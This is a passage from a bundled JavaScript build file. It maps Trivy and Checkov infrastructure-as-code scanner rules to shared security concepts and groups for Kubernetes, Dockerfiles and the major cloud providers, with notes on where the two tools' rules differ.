privileged","trivy":["KSV-0017"],"checkov":["CKV_K8S_16"],"frameworks":["kubernetes"]},{"id":"k8s-memory-limit","title":"Container has a memory limit","trivy":["KSV-0018"],"checkov":["CKV_K8S_13"],"frameworks":["kubernetes"]},{"id":"k8s-high-uid","title":"Container runs with a high user id","trivy":["KSV-0020"],"checkov":["CKV_K8S_40"],"frameworks":["kubernetes"]},{"id":"k8s-no-added-capabilities","title":"Container adds no capabilities","trivy":["KSV-0022"],"checkov":["CKV_K8S_25"],"frameworks":["kubernetes"]},{"id":"k8s-no-host-port","title":"Container has no host port","trivy":["KSV-0024"],"checkov":["CKV_K8S_26"],"frameworks":["kubernetes"]},{"id":"k8s-seccomp-default","title":"Pod uses the runtime seccomp profile","trivy":["KSV-0030"],"checkov":["CKV_K8S_31"],"frameworks":["kubernetes"]},{"id":"k8s-no-tiller","title":"Tiller is not deployed","trivy":["KSV-0102"],"checkov":["CKV_K8S_34"],"frameworks":["kubernetes"]},{"id":"k8s-no-default-namespace","title":"Default namespace is not used","trivy":["KSV-0110"],"checkov":["CKV_K8S_21"],"frameworks":["kubernetes"]},{"id":"k8s-no-webhook-control","title":"Role cannot change admission webhooks","trivy":["KSV-0114"],"checkov":["CKV_K8S_155"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-anonymous-auth","title":"API server refuses anonymous requests","trivy":["KCV-0001"],"checkov":["CKV_K8S_68"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-token-auth-file","title":"API server has no token file","trivy":["KCV-0002"],"checkov":["CKV_K8S_70"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-kubelet-https","title":"API server talks HTTPS to kubelets","trivy":["KCV-0004"],"checkov":["CKV_K8S_71"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-kubelet-client-cert","title":"API server has a kubelet client certificate","trivy":["KCV-0005"],"checkov":["CKV_K8S_72"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-kubelet-ca","title":"API server checks kubelet certificates","trivy":["KCV-0006"],"checkov":["CKV_K8S_73"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-not-always-allow","title":"API server does not use AlwaysAllow","trivy":["KCV-0007"],"checkov":["CKV_K8S_74"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-node-authorizer","title":"API server uses the Node authorizer","trivy":["KCV-0008"],"checkov":["CKV_K8S_75"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-rbac","title":"API server uses RBAC","trivy":["KCV-0009"],"checkov":["CKV_K8S_77"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-no-always-admit","title":"API server does not use AlwaysAdmit","trivy":["KCV-0011"],"checkov":["CKV_K8S_79"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-secure-port","title":"API server secure port is on","trivy":["KCV-0017"],"checkov":["CKV_K8S_89"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-profiling","title":"API server profiling is off","trivy":["KCV-0018"],"checkov":["CKV_K8S_90"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-audit-log","title":"API server writes an audit log","trivy":["KCV-0019"],"checkov":["CKV_K8S_91"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-etcd-client-cert","title":"API server has an etcd client certificate","trivy":["KCV-0026"],"checkov":["CKV_K8S_99"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-tls-cert","title":"API server has a TLS certificate","trivy":["KCV-0027"],"checkov":["CKV_K8S_100"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-etcd-ca","title":"API server checks the etcd certificate","trivy":["KCV-0029"],"checkov":["CKV_K8S_102"],"frameworks":["kubernetes"]},{"id":"k8s-apiserver-encryption-config","title":"API server encrypts stored objects","trivy":["KCV-0030"],"checkov":["CKV_K8S_104"],"frameworks":["kubernetes"]},{"id":"k8s-controller-pod-gc","title":"Controller manager sets a pod GC threshold","trivy":["KCV-0033"],"checkov":["CKV_K8S_106"],"frameworks":["kubernetes"]},{"id":"k8s-controller-profiling","title":"Controller manager profiling is off","trivy":["KCV-0034"],"checkov":["CKV_K8S_107"],"frameworks":["kubernetes"]},{"id":"k8s-controller-sa-credentials","title":"Controller manager uses service account credentials","trivy":["KCV-0035"],"checkov":["CKV_K8S_108"],"frameworks":["kubernetes"]},{"id":"k8s-controller-bind-address","title":"Controller manager listens on localhost","trivy":["KCV-0039"],"checkov":["CKV_K8S_113"],"frameworks":["kubernetes"]},{"id":"k8s-scheduler-profiling","title":"Scheduler profiling is off","trivy":["KCV-0040"],"checkov":["CKV_K8S_114"],"frameworks":["kubernetes"]},{"id":"k8s-scheduler-bind-address","title":"Scheduler listens on localhost","trivy":["KCV-0041"],"checkov":["CKV_K8S_115"],"frameworks":["kubernetes"]},{"id":"k8s-etcd-cert","title":"etcd has a certificate","trivy":["KCV-0042"],"checkov":["CKV_K8S_116"],"frameworks":["kubernetes"]},{"id":"k8s-etcd-client-auth","title":"etcd checks client certificates","trivy":["KCV-0043"],"checkov":["CKV_K8S_117"],"frameworks":["kubernetes"]},{"id":"k8s-etcd-no-auto-tls","title":"etcd does not make its own certificate","trivy":["KCV-0044"],"checkov":["CKV_K8S_118"],"frameworks":["kubernetes"]},{"id":"k8s-etcd-peer-cert","title":"etcd peers have a certificate","trivy":["KCV-0045"],"checkov":["CKV_K8S_119"],"frameworks":["kubernetes"]},{"id":"docker-base-tag","title":"Base image has a fixed tag","trivy":["DS-0001"],"checkov":["CKV_DOCKER_7"],"frameworks":["dockerfile"]},{"id":"docker-no-ssh-port","title":"SSH port is not exposed","trivy":["DS-0004"],"checkov":["CKV_DOCKER_1"],"frameworks":["dockerfile"]},{"id":"docker-absolute-workdir","title":"WORKDIR is absolute","trivy":["DS-0009"],"checkov":["CKV_DOCKER_10"],"frameworks":["dockerfile"]},{"id":"docker-no-sudo","title":"RUN does not use sudo","trivy":["DS-0010"],"checkov":["CKV2_DOCKER_1"],"frameworks":["dockerfile"]},{"id":"docker-unique-alias","title":"Build stage names are unique","trivy":["DS-0012"],"checkov":["CKV_DOCKER_11"],"frameworks":["dockerfile"]},{"id":"docker-no-maintainer","title":"MAINTAINER is not used","trivy":["DS-0022"],"checkov":["CKV_DOCKER_6"],"frameworks":["dockerfile"]},{"id":"docker-healthcheck","title":"Image has a health check","trivy":["DS-0026"],"checkov":["CKV_DOCKER_2"],"frameworks":["dockerfile"]}],"K1":{"narrower":[{"trivy":"AWS-0006","checkov":"CKV_AWS_159","why":"workgroups only"},{"trivy":"AWS-0006","checkov":"CKV_AWS_77","why":"databases only"},{"trivy":"AWS-0007","checkov":"CKV_AWS_82","why":"Checkov passes an absent configuration block"},{"trivy":"AWS-0018","checkov":"CKV_AWS_78","why":"Checkov reads primary artifacts only"},{"trivy":"AWS-0033","checkov":"CKV_AWS_136","why":"Checkov wants KMS, Trivy also a customer key"},{"trivy":"AWS-0042","checkov":"CKV_AWS_84","why":"any log passes in Checkov, Trivy wants the audit log"},{"trivy":"AWS-0064","checkov":"CKV_AWS_185","why":"key only; Trivy wants KMS and a customer key"},{"trivy":"AWS-0064","checkov":"CKV_AWS_43","why":"KMS only; Trivy wants KMS and a customer key"},{"trivy":"AWS-0066","checkov":"CKV_AWS_50","why":"Checkov accepts PassThrough"},{"trivy":"AWS-0067","checkov":"CKV_AWS_364","why":"Checkov also accepts a source account"},{"trivy":"AWS-0077","checkov":"CKV_AWS_133","why":"Checkov fails at 0 days, Trivy below 2"},{"trivy":"AWS-0079","checkov":"CKV_AWS_327","why":"key only; Trivy wants encryption too"},{"trivy":"AWS-0079","checkov":"CKV_AWS_96","why":"encryption only; Trivy wants a customer key too"},{"trivy":"AWS-0084","checkov":"CKV_AWS_142","why":"key only; Trivy wants encryption too"},{"trivy":"AWS-0084","checkov":"CKV_AWS_64","why":"encryption only; Trivy wants a customer key too"},{"trivy":"AWS-0092","checkov":"CKV_AWS_20","why":"read ACLs; Trivy takes every public ACL"},{"trivy":"AWS-0092","checkov":"CKV_AWS_57","why":"write ACL; Trivy takes every public ACL"},{"trivy":"AWS-0097","checkov":"CKV_AWS_72","why":"Checkov misses sqs:*"},{"trivy":"AWS-0104","checkov":"CKV_AWS_382","why":"Checkov wants every port open, Trivy any port"},{"trivy":"AWS-0105","checkov":"CKV_AWS_231","why":"RDP only"},{"trivy":"AWS-0105","checkov":"CKV_AWS_232","why":"SSH only"},{"trivy":"AWS-0107","checkov":"CKV_AWS_24","why":"SSH only"},{"trivy":"AWS-0107","checkov":"CKV_AWS_25","why":"RDP only"},{"trivy":"AWS-0109","checkov":"CKV_AWS_155","why":"user volume only"},{"trivy":"AWS-0109","checkov":"CKV_AWS_156","why":"root volume only"},{"trivy":"AWS-0132","checkov":"CKV_AWS_145","why":"KMS is enough for Checkov, Trivy wants a customer key"},{"trivy":"AWS-0344","checkov":"CKV_AWS_386","why":"Checkov also wants a wildcard name"},{"trivy":"AZU-0010","checkov":"CKV_AZURE_36","why":"Checkov fails only when the default is deny and another bypass is listed"},{"trivy":"AZU-0016","checkov":"CKV_AZURE_110","why":"Trivy also wants retention days set"},{"trivy":"AZU-0019","checkov":"CKV_AZURE_31","why":"Trivy also fires when unset, on the server"},{"trivy":"AZU-0020","checkov":"CKV_AZURE_28","why":"MySQL only"},{"trivy":"AZU-0020","checkov":"CKV_AZURE_29","why":"PostgreSQL only"},{"trivy":"AZU-0020","checkov":"CKV_AZURE_47","why":"MariaDB only"},{"trivy":"AZU-0021","checkov":"CKV_AZURE_32","why":"Trivy also fires when unset, on the server"},{"trivy":"AZU-0022","checkov":"CKV_AZURE_113","why":"SQL Server only"},{"trivy":"AZU-0022","checkov":"CKV_AZURE_48","why":"MariaDB only"},{"trivy":"AZU-0022","checkov":"CKV_AZURE_53","why":"MySQL only"},{"trivy":"AZU-0022","checkov":"CKV_AZURE_68","why":"PostgreSQL only"},{"trivy":"AZU-0024","checkov":"CKV_AZURE_30","why":"Trivy also fires when unset, on the server"},{"trivy":"AZU-0026","checkov":"CKV_AZURE_147","why":"PostgreSQL only"},{"trivy":"AZU-0026","checkov":"CKV_AZURE_52","why":"SQL Server only"},{"trivy":"AZU-0026","checkov":"CKV_AZURE_54","why":"MySQL only"},{"trivy":"AZU-0029","checkov":"CKV_AZURE_11","why":"Checkov fails only for the whole address space"},{"trivy":"AZU-0031","checkov":"CKV_AZURE_37","why":"Checkov passes a disabled policy"},{"trivy":"AZU-0052","checkov":"CKV_AZURE_39","why":"Checkov fails only for a bare wildcard"},{"trivy":"AZU-0059","checkov":"CKV_AZURE_3","why":"HTTPS half"},{"trivy":"AZU-0059","checkov":"CKV_AZURE_44","why":"TLS half"},{"trivy":"AZU-0063","checkov":"CKV_AZURE_21","why":"alerts half"},{"trivy":"AZU-0063","checkov":"CKV_AZURE_22","why":"admins half"},{"trivy":"DIG-0006","checkov":"CKV_DIO_3","why":"bucket only, Trivy also objects"},{"trivy":"DS-0002","checkov":"CKV_DOCKER_3","why":"no USER at all"},{"trivy":"DS-0002","checkov":"CKV_DOCKER_8","why":"last USER is root"},{"trivy":"GCP-0007","checkov":"CKV_GCP_42","why":"projects only"},{"trivy":"GCP-0014","checkov":"CKV_GCP_56","why":"Trivy also fires when the flag is unset"},{"trivy":"GCP-0017","checkov":"CKV_GCP_11","why":"open networks half"},{"trivy":"GCP-0017","checkov":"CKV_GCP_60","why":"public address half"},{"trivy":"GCP-0019","checkov":"CKV_GCP_58","why":"Trivy also fires when the flag is unset"},{"trivy":"GCP-0023","checkov":"CKV_GCP_59","why":"Trivy also fires when the flag is unset"},{"trivy":"GCP-0033","checkov":"CKV_GCP_38","why":"Checkov also accepts a supplied key and reads the boot disk only"},{"trivy":"GCP-0034","checkov":"CKV_GCP_37","why":"Checkov also accepts a supplied key"},{"trivy":"GCP-0052","checkov":"CKV_GCP_8","why":"Checkov fails only for none"},{"trivy":"GCP-0054","checkov":"CKV_GCP_22","why":"Checkov reads node pools of old versions only"},{"trivy":"GCP-0059","checkov":"CKV_GCP_25","why":"Checkov wants any private block"},{"trivy":"GCP-0059","checkov":"CKV_GCP_64","why":"Checkov wants any private block"},{"trivy":"GCP-0060","checkov":"CKV_GCP_1","why":"Checkov fails only for none"},{"trivy":"KCV-0012","checkov":"CKV_K8S_80","why":"Trivy also fires when the flag is absent"},{"trivy":"KCV-0016","checkov":"CKV_K8S_85","why":"Trivy also fires when the flag is absent"},{"trivy":"KCV-0038","checkov":"CKV_K8S_112","why":"Trivy also fires when the flag is absent"},{"trivy":"KSV-0012","checkov":"CKV_K8S_23","why":"Checkov accepts a user id other than 0"},{"trivy":"KSV-0102","checkov":"CKV_K8S_45","why":"only when reachable in the cluster"},{"trivy":"KSV-0106","checkov":"CKV_K8S_37","why":"drop half"},{"trivy":"OPNSTK-0002","checkov":"CKV_OPENSTACK_5","why":"destination only"},{"trivy":"OPNSTK-0003","checkov":"CKV_OPENSTACK_2","why":"SSH only"},{"trivy":"OPNSTK-0003","checkov":"CKV_OPENSTACK_3","why":"RDP only"}],"wider":[{"trivy":"AWS-0004","checkov":"CKV_AWS_59","why":"Trivy exempts the misspelt method OPTION, Checkov OPTIONS, and orphan methods are skipped by Trivy"},{"trivy":"AWS-0008","checkov":"CKV_AWS_8","why":"Checkov also covers instances"},{"trivy":"AWS-0028","checkov":"CKV_AWS_79","why":"Checkov also covers launch templates and configurations"},{"trivy":"AWS-0029","checkov":"CKV_AWS_46","why":"Checkov also covers templates; secret detectors differ"},{"trivy":"AWS-0049","checkov":"CKV_AWS_23","why":"Checkov covers every security group kind and its rules"},{"trivy":"AWS-0056","checkov":"CKV_AWS_13","why":"Checkov wants 24 remembered passwords, Trivy 5"},{"trivy":"AWS-0073","checkov":"CKV_AWS_81","why":"Checkov checks traffic and storage"},{"trivy":"AWS-0083","checkov":"CKV_AWS_23","why":"Checkov covers every security group kind and its rules"},{"trivy":"AWS-0094","checkov":"CKV2_AWS_6","why":"Checkov also wants two of its flags on"},{"trivy":"AWS-0099","checkov":"CKV_AWS_23","why":"Checkov covers group and rules"},{"trivy":"AWS-0122","checkov":"CKV_AWS_8","why":"Trivy\'s older id, launch configurations only"},{"trivy":"AWS-0124","checkov":"CKV_AWS_23","why":"Checkov covers group and rules"},{"trivy":"AWS-0129","checkov":"CKV_AWS_46","why":"Checkov also covers instances; secret detectors differ"},{"trivy":"AWS-0130","checkov":"CKV_AWS_79","why":"Checkov also covers instances"},{"trivy":"AWS-0131","checkov":"CKV_AWS_8","why":"Checkov also covers launch configurations"},{"trivy":"AWS-0137","checkov":"CKV_AWS_349","why":"Checkov wants local disk encryption too"},{"trivy":"AWS-0137","checkov":"CKV_AWS_350","why":"Checkov wants EBS encryption too"},{"trivy":"AWS-0161","checkov":"CKV_AWS_20","why":"Checkov checks every bucket, Trivy the trail\'s bucket"},{"trivy":"AWS-0163","checkov":"CKV_AWS_18","why":"Checkov checks every bucket, Trivy the trail\'s bucket"},{"trivy":"AWS-0179","checkov":"CKV_AWS_81","why":"Checkov checks traffic and storage"},{"trivy":"AZU-0009","checkov":"CKV_AZURE_33","why":"Trivy asks only where a queue exists"},{"trivy":"AZU-0025","checkov":"CKV_AZURE_24","why":"Checkov also fails when there is no policy"},{"trivy":"AZU-0049","checkov":"CKV_AZURE_12","why":"Checkov also fails a disabled flow log; Trivy also fails 0 days"},{"trivy":"AZU-0057","checkov":"CKV_AZURE_33","why":"Checkov wants read, write and delete logged"},{"trivy":"AZU-0060","checkov":"CKV2_AZURE_1","why":"Trivy asks only where a container exists"},{"trivy":"DS-0005","checkov":"CKV_DOCKER_4","why":"Trivy exempts archives and addresses"},{"trivy":"GCP-0005","checkov":"CKV_GCP_44","why":"Checkov has a longer role list"},{"trivy":"GCP-0009","checkov":"CKV_GCP_45","why":"Checkov has a longer role list"},{"trivy":"GCP-0011","checkov":"CKV_GCP_49","why":"Checkov has a longer role list"},{"trivy":"GCP-0041","checkov":"CKV_GCP_39","why":"Checkov also checks integrity monitoring"},{"trivy":"GCP-0042","checkov":"CKV_GCP_33","why":"Checkov also fails a boolean true"},{"trivy":"GCP-0045","checkov":"CKV_GCP_39","why":"Checkov also checks vTPM"},{"trivy":"GCP-0046","checkov":"CKV_GCP_15","why":"Checkov has a longer list of public groups"},{"trivy":"GCP-0056","checkov":"CKV_GCP_12","why":"Checkov does not exempt Autopilot and Dataplane V2"},{"trivy":"KCV-0020","checkov":"CKV_K8S_92","why":"Checkov also checks the number"},{"trivy":"KCV-0021","checkov":"CKV_K8S_93","why":"Checkov also checks the number"},{"trivy":"KCV-0022","checkov":"CKV_K8S_94","why":"Checkov also checks the number"},{"trivy":"KCV-0024","checkov":"CKV_K8S_96","why":"Checkov also fires when the flag is absent"},{"trivy":"KSV-0004","checkov":"CKV_K8S_28","why":"Checkov wants NET_RAW or all dropped"},{"trivy":"KSV-0036","checkov":"CKV_K8S_38","why":"Checkov also fails when unset"},{"trivy":"KSV-0044","checkov":"CKV_K8S_49","why":"Checkov fails any wildcard"},{"trivy":"KSV-0045","checkov":"CKV_K8S_49","why":"Checkov fails any wildcard"},{"trivy":"KSV-0046","checkov":"CKV_K8S_49","why":"Checkov fails any wildcard"},{"trivy":"KSV-0104","checkov":"CKV_K8S_31","why":"Checkov also fails a local profile"}],"related":[{"trivy":"AWS-0007","checkov":"CKV_AWS_159","why":"workgroup encryption, not enforcement"},{"trivy":"AWS-0013","checkov":"CKV_AWS_174","why":"both minimum viewer TLS; Trivy wants 2021 or later, Checkov rejects the default certificate"},{"trivy":"AWS-0047","checkov":"CKV2_AWS_74","why":"policy lists differ in both directions"},{"trivy":"AWS-0047","checkov":"CKV_AWS_103","why":"policy lists differ in both directions"},{"trivy":"AWS-0054","checkov":"CKV2_AWS_20","why":"redirect, from the load balancer\'s side"},{"trivy":"AWS-0086","checkov":"CKV2_AWS_6","why":"Checkov\'s bucket-side check for the same block"},{"trivy":"AWS-0087","checkov":"CKV2_AWS_6","why":"Checkov\'s bucket-side check for the same block"},{"trivy":"AWS-0102","checkov":"CKV_AWS_352","why":"Checkov ingress without ports, Trivy any direction with protocol all"},{"trivy":"AWS-0107","checkov":"CKV_AWS_277","why":"all ports open"},{"trivy":"AWS-0110","checkov":"CKV_AWS_120","why":"SAM cache against stage cache; disagree on Trivy\'s good example"},{"trivy":"AWS-0137","checkov":"CKV_AWS_171","why":"Checkov wants SSE-KMS"},{"trivy":"AWS-0139","checkov":"CKV_AWS_349","why":"Trivy fires only on an empty key provider"},{"trivy":"AWS-0143","checkov":"CKV_AWS_40","why":"same control, but Trivy reports the user and Checkov the attachment, so never on one resource"},{"trivy":"AWS-0173","checkov":"CKV2_AWS_12","why":"read by title only, Trivy never fired in fixtures"},{"trivy":"AWS-0345","checkov":"CKV_AWS_288","why":"policy analysis, other actions too"},{"trivy":"AWS-0345","checkov":"CKV_AWS_289","why":"policy analysis, other actions too"},{"trivy":"AWS-0345","checkov":"CKV_AWS_290","why":"policy analysis, other actions too"},{"trivy":"AWS-0345","checkov":"CKV_AWS_355","why":"policy analysis, other actions too"},{"trivy":"AZU-0016","checkov":"CKV_AZURE_42","why":"soft delete and purge protection together"},{"trivy":"AZU-0030","checkov":"CKV_AZURE_39","why":"wildcard actions"},{"trivy":"AZU-0037","checkov":"CKV_AZURE_45","why":"secret detectors never agreed in fixtures"},{"trivy":"AZU-0039","checkov":"CKV_AZURE_149","why":"same attribute, other resource types; Checkov\'s second id"},{"trivy":"AZU-0039","checkov":"CKV_AZURE_178","why":"asks for an SSH key"},{"trivy":"AZU-0045","checkov":"CKV_AZURE_55","why":"one plan only"},{"trivy":"AZU-0047","checkov":"CKV_AZURE_160","why":"one port only"},{"trivy":"AZU-0056","checkov":"CKV2_AZURE_38","why":"Trivy fails 0 days, Checkov an absent block; they never fired together"},{"trivy":"AZU-0069","checkov":"CKV_AZURE_81","why":"version lists differ"},{"trivy":"AZU-0070","checkov":"CKV_AZURE_82","why":"version lists differ"},{"trivy":"AZU-0073","checkov":"CKV_AZURE_12","why":"Checkov\'s retention check fails a disabled flow log too"},{"trivy":"DS-0017","checkov":"CKV_DOCKER_5","why":"disagree on Trivy\'s own example"},{"trivy":"GCP-0007","checkov":"CKV_GCP_115","why":"basic roles on the organization"},{"trivy":"GCP-0007","checkov":"CKV_GCP_116","why":"basic roles on folders"},{"trivy":"GCP-0007","checkov":"CKV_GCP_117","why":"basic roles on projects"},{"trivy":"GCP-0018","checkov":"CKV_GCP_55","why":"accepted levels differ"},{"trivy":"GCP-0027","checkov":"CKV_GCP_2","why":"one port only"},{"trivy":"GCP-0027","checkov":"CKV_GCP_3","why":"one port only"},{"trivy":"GCP-0027","checkov":"CKV_GCP_88","why":"one port only"},{"trivy":"GCP-0039","checkov":"CKV_GCP_4","why":"TLS version against cipher profile"},{"trivy":"GCP-0057","checkov":"CKV_GCP_69","why":"metadata server mode"},{"trivy":"GCP-0064","checkov":"CKV_GCP_13","why":"Checkov also fails when unset; Trivy also takes basic auth"},{"trivy":"GCP-0070","checkov":"CKV_GCP_3","why":"Trivy exempts rules with target tags; Checkov misses rules without ports"},{"trivy":"GCP-0072","checkov":"CKV2_GCP_12","why":"Checkov needs protocol all"},{"trivy":"GCP-0079","checkov":"CKV2_GCP_5","why":"conditions overlap only in part"},{"trivy":"KCV-0010","checkov":"CKV_K8S_78","why":"Checkov reads AdmissionConfiguration, Trivy the flag"},{"trivy":"KCV-0013","checkov":"CKV_K8S_81","why":"never fired together"},{"trivy":"KCV-0014","checkov":"CKV_K8S_82","why":"Trivy reads the disable list, Checkov the enable list"},{"trivy":"KCV-0015","checkov":"CKV_K8S_83","why":"Trivy reads the disable list, Checkov the enable list"},{"trivy":"KCV-0025","checkov":"CKV_K8S_97","why":"Trivy fails when absent, Checkov only by file name"},{"trivy":"KCV-0036","checkov":"CKV_K8S_110","why":"Trivy fails when absent, Checkov only by file name"},{"trivy":"KCV-0037","checkov":"CKV_K8S_111","why":"Trivy fails when absent, Checkov only by file name"},{"trivy":"KCV-0046","checkov":"CKV_K8S_121","why":"Checkov reads args of a pod named etcd only"},{"trivy":"KCV-0079","checkov":"CKV_K8S_138","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0080","checkov":"CKV_K8S_139","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0081","checkov":"CKV_K8S_140","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0082","checkov":"CKV_K8S_141","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0083","checkov":"CKV_K8S_144","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0084","checkov":"CKV_K8S_145","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0085","checkov":"CKV_K8S_143","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0086","checkov":"CKV_K8S_146","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0087","checkov":"CKV_K8S_147","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0088","checkov":"CKV_K8S_148","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0089","checkov":"CKV_K8S_148","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0090","checkov":"CKV_K8S_149","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KCV-0092","checkov":"CKV_K8S_151","why":"Trivy reads node data, Checkov kubelet pods"},{"trivy":"KSV-0041","checkov":"CKV2_K8S_5","why":"Checkov needs a binding and reads only"},{"trivy":"KSV-0043","checkov":"CKV2_K8S_3","why":"read by title, never fired together"},{"trivy":"KSV-0047","checkov":"CKV2_K8S_2","why":"Checkov needs a binding and covers exec too"},{"trivy":"KSV-0050","checkov":"CKV_K8S_157","why":"bind verb against create verb"},{"trivy":"KSV-0053","checkov":"CKV2_K8S_2","why":"Checkov needs a binding and covers node proxy too"},{"trivy":"KSV-0106","checkov":"CKV_K8S_25","why":"added capabilities"},{"trivy":"KSV-0113","checkov":"CKV2_K8S_5","why":"Checkov needs a binding and reads only"},{"trivy":"KSV-0118","checkov":"CKV_K8S_29","why":"pod-level context; disagree on some fixtures"}]}}');
+;// CONCATENATED MODULE: ./build/js/knowledge/concepts.js
+
+/** Formats that are read with the rules of another: charts and kustomizations are Kubernetes. */
+const frameworks = { helm: 'kubernetes', kustomize: 'kubernetes' };
+const concepts_keyOf = (tool, framework, ruleId) => `${tool} ${framework} ${ruleId}`;
+const concepts_byRule = new Map(concepts_namespaceObject.W.flatMap(({ id, title, trivy, checkov, frameworks }) => frameworks.flatMap((framework) => [
+    ...trivy.map((rule) => [concepts_keyOf('trivy', framework, rule), { id, title }]),
+    ...checkov.map((rule) => [concepts_keyOf('checkov', framework, rule), { id, title }]),
+])));
+/** In the order of the table. */
+const conceptIds = concepts_namespaceObject.W.map(({ id }) => id);
+const knownConcepts = new Set(conceptIds);
+const relations = ['narrower', 'wider', 'related'].flatMap((kind) => concepts_namespaceObject.K1[kind].map((relation) => ({ kind, ...relation })));
+/**
+ * The concept that a rule is proven to test in files of this format. The format matters: CKV_K8S_12 and CKV_K8S_13 mean the opposite
+ * of each other in Kubernetes and in Terraform. `undefined` where nothing is proven. Source: docs/knowledge.md.
+ */
+function conceptOf(tool, format, ruleId) {
+    const framework = Object.hasOwn(frameworks, format) ? (frameworks[format] ?? format) : format;
+    return concepts_byRule.get(concepts_keyOf(tool, framework, ruleId));
+}
+const isConcept = (id) => knownConcepts.has(id);
+/** Rules of the other tool that overlap with this one without being equal, in the order of the table. */
+const relationsOf = (tool, ruleId) => relations.filter((relation) => relation[tool] === ruleId);
+/** What is known of a concept, or of all that a rule of either tool tests. */
+const conceptsNamed = (word) => table.concepts
+    .filter(({ id, trivy, checkov }) => id === word || trivy.includes(word) || checkov.includes(word))
+    .map(({ id, title, trivy, checkov, frameworks }) => ({ id, title, rules: { trivy, checkov }, frameworks }));
+
+;// CONCATENATED MODULE: ./build/js/knowledge/groups.js
+
+const withPrefix = (...prefixes) => conceptIds.filter((id) => prefixes.some((prefix) => id.startsWith(prefix)));
+/** The four settings of Amazon S3 Block Public Access. */
+const s3PublicAccess = [
+    's3-block-public-acls',
+    's3-block-public-policy',
+    's3-ignore-public-acls',
+    's3-restrict-public-buckets',
+];
+/** Kubernetes Pod Security Standards, profile Baseline, as far as there are concepts. */
+const podSecurityBaseline = [
+    'k8s-no-docker-socket',
+    'k8s-no-host-ipc',
+    'k8s-no-host-network',
+    'k8s-no-host-pid',
+    'k8s-no-host-port',
+    'k8s-no-privileged',
+    'k8s-no-sys-admin',
+];
+/** The same, profile Restricted, which holds the other. */
+const podSecurityRestricted = [
+    ...podSecurityBaseline,
+    'k8s-drop-all-capabilities',
+    'k8s-no-added-capabilities',
+    'k8s-no-privilege-escalation',
+    'k8s-seccomp-default',
+];
+const encryptionAtRest = [
+    'apigateway-cache-encrypted',
+    'datalake-encryption',
+    'dax-encryption',
+    'docdb-encryption',
+    'ebs-volume-encryption',
+    'efs-encryption',
+    'eks-secrets-encryption',
+    'elasticache-replication-at-rest',
+    'elasticsearch-encryption-at-rest',
+    'k8s-apiserver-encryption-config',
+    'managed-disk-encryption',
+    'neptune-encryption',
+    'rds-instance-encryption',
+    'sns-topic-encryption',
+    'sqs-queue-encryption',
+];
+const encryptionInTransit = [
+    'alb-listener-https',
+    'appservice-ftps',
+    'appservice-https-only',
+    'cloudfront-https-only',
+    'cloudsql-require-tls',
+    'ecs-efs-transit-encryption',
+    'elasticache-replication-transit',
+    'elasticsearch-https',
+    'emr-transit-encryption',
+    'functionapp-https-only',
+    'storage-https-only',
+];
+const kubernetesApiExposure = [
+    'aks-authorized-ips',
+    'aks-private-cluster',
+    'eks-no-public-endpoint',
+    'eks-public-endpoint-cidr',
+    'gke-control-plane-not-open',
+    'gke-master-authorized-networks',
+];
+const publicAddresses = ['gce-no-public-ip', 'launch-config-no-public-ip', 'nic-no-public-ip', 'subnet-no-public-ip'];
+/** In the order of their names. */
+const groups = [
+    { id: 'encryption-at-rest', title: 'Stored data is encrypted.', concepts: encryptionAtRest },
+    { id: 'encryption-in-transit', title: 'Traffic is encrypted.', concepts: encryptionInTransit },
+    { id: 'iam-password-policy', title: 'What AWS asks of passwords.', concepts: withPrefix('iam-password-') },
+    {
+        id: 'k8s-control-plane',
+        title: 'Flags of the API server, controller manager, scheduler and etcd (CIS Kubernetes, control plane).',
+        concepts: withPrefix('k8s-apiserver-', 'k8s-controller-', 'k8s-etcd-', 'k8s-scheduler-'),
+    },
+    {
+        id: 'k8s-pod-security-baseline',
+        title: 'Pod Security Standards, profile Baseline.',
+        concepts: podSecurityBaseline,
+    },
+    {
+        id: 'k8s-pod-security-restricted',
+        title: 'Pod Security Standards, profile Restricted; holds Baseline.',
+        concepts: podSecurityRestricted,
+    },
+    {
+        id: 'k8s-resources',
+        title: 'Requests and limits of containers.',
+        concepts: ['k8s-cpu-limit', 'k8s-cpu-request', 'k8s-memory-limit', 'k8s-memory-request'],
+    },
+    {
+        id: 'kubernetes-api-exposure',
+        title: 'Who can reach the API of a managed cluster.',
+        concepts: kubernetesApiExposure,
+    },
+    {
+        id: 'open-admin-ports',
+        title: 'SSH and RDP are not open to the internet.',
+        concepts: ['gce-firewall-no-public-ssh', 'nsg-no-public-rdp', 'nsg-no-public-ssh'],
+    },
+    {
+        id: 'pinned-images',
+        title: 'Images are named so that they stay what they are.',
+        concepts: ['docker-base-tag', 'ecr-immutable-tags', 'k8s-image-tag'],
+    },
+    { id: 'public-addresses', title: 'Machines have no public address.', concepts: publicAddresses },
+    {
+        id: 'public-storage',
+        title: 'Buckets and containers are not public, on any cloud.',
+        concepts: ['gcs-no-public-access', ...s3PublicAccess, 'storage-container-private'],
+    },
